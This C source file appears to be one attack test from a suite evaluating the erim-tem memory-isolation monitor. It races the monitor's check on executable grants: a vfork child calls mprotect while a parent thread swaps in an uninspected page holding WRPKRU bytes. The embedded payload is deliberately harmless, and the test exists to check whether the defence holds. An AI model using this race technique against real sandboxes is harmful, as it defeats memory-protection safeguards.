/* SPDX-License-Identifier: MIT */
/* atk_vfork_exec.c: an executable grant raced from a task that shares the
 * memory but was not made as a thread.  erim-tem grants mprotect(PROT_EXEC)
 * in three steps (the call without execute, inspection, the real call
 * injected) with the other tasks of the address space held in between.  A
 * vfork child makes the calls; a thread of its parent meanwhile mremap()s a
 * page with WRPKRU bytes over the range.  Unless the parent's thread is
 * held too, it lands between inspection and grant and the uninspected page
 * becomes executable.  The WRPKRU sits in an immediate (mov eax, imm; ret),
 * so running the page is harmless and proves it executable.
 *
 * Control (not under erim-tem): nothing inspects, so the swap is simply
 * waited for before the mprotect, which makes the WRPKRU page executable. */
#include <pthread.h>
#include <time.h>

#include "atk_common.h"

#define PG 4096
#define TRIES 1500

static const uint8_t pay[] = { 0xb8, 0x0f, 0x01, 0xef, 0x00, 0xc3 };   /* mov eax,0xef010f; ret */
static volatile uint64_t target, cand[64];
static volatile int stop, swaps, tries, granted, ncand;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		uint64_t t = target;
		void *q;

		if (!t)
			continue;
		q = (void *)syscall(SYS_mmap, 0, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (q == MAP_FAILED)
			continue;
		memcpy(q, pay, sizeof pay);
		if (target == t &&
		    syscall(SYS_mremap, q, PG, PG, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)(uintptr_t)t) == (long)t) {
			swaps++;
			if (!atk_under_tem)
				target = 0;   /* control: one swap, then the mprotect */
		} else
			syscall(SYS_munmap, q, PG);
	}
	return NULL;
}

static int page_rx(uint64_t a)
{
	FILE *f = fopen("/proc/self/maps", "r");
	char line[512];
	int rx = 0;

	while (f && fgets(line, sizeof line, f)) {
		unsigned long long s, e;
		char perms[8];

		if (sscanf(line, "%llx-%llx %7s", &s, &e, perms) == 3 && a >= s && a < e)
			rx = perms[0] == 'r' && perms[1] == '-' && perms[2] == 'x';
	}
	if (f)
		fclose(f);
	return rx;
}

/* The vfork child's loop (it shares everything with the parent process). */
__attribute__((noinline)) static void caller(void)
{
	time_t end = time(NULL) + 4;

	for (tries = 0; tries < TRIES && ncand < 64 && time(NULL) < end; tries++) {
		uint8_t *p = (uint8_t *)syscall(SYS_mmap, 0, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		int s0 = swaps;

		if (p == MAP_FAILED)
			break;
		p[0] = 0xc3;   /* clean: ret */
		target = (uint64_t)(uintptr_t)p;
		if (!atk_under_tem)
			while (swaps == s0 && !stop)
				;   /* control: the swap first, no inspection to race */
		if (syscall(SYS_mprotect, p, PG, PROT_READ | PROT_EXEC) == 0) {
			granted++;
			target = 0;
			if (memcmp(p, pay, sizeof pay) == 0)
				cand[ncand++] = (uint64_t)(uintptr_t)p;   /* judged after the vfork */
		}
		if (!atk_under_tem && ncand)
			break;
		target = 0;
	}
}

__attribute__((noinline)) static pid_t run_vfork(void)
{
	pid_t pid = vfork();

	if (pid == 0) {
		caller();
		_exit(0);
	}
	return pid;
}

static enum atk_result atk_attack(void)
{
	pthread_t th;
	pid_t pid;
	int st, i;
	uint64_t won_page = 0;

	if (pthread_create(&th, NULL, swapper, NULL) != 0)
		return ATK_ERROR;
	pid = run_vfork();
	stop = 1;
	pthread_join(th, NULL);
	if (pid < 0 || waitpid(pid, &st, 0) != pid)
		return ATK_ERROR;
	atk_say("vfork child: %d mprotect(RX) calls, %d granted; %d pages swapped in by a parent thread", tries,
	        granted, swaps);
	for (i = 0; i < ncand && !won_page; i++)
		if (memcmp((const void *)(uintptr_t)cand[i], pay, sizeof pay) == 0 && page_rx(cand[i]))
			won_page = cand[i];
	if (won_page) {
		long r = ((long (*)(void))(uintptr_t)won_page)();

		atk_say("page 0x%llx is r-x and holds WRPKRU bytes nobody inspected; it ran (returned %#lx)",
		        (unsigned long long)won_page, r);
		return r == 0xef010f ? ATK_SUCCEEDED : ATK_ERROR;
	}
	return ATK_REFUSED;
}

static const char *atk_name = "atk_vfork_exec";
static int atk_needs_pku = 0;
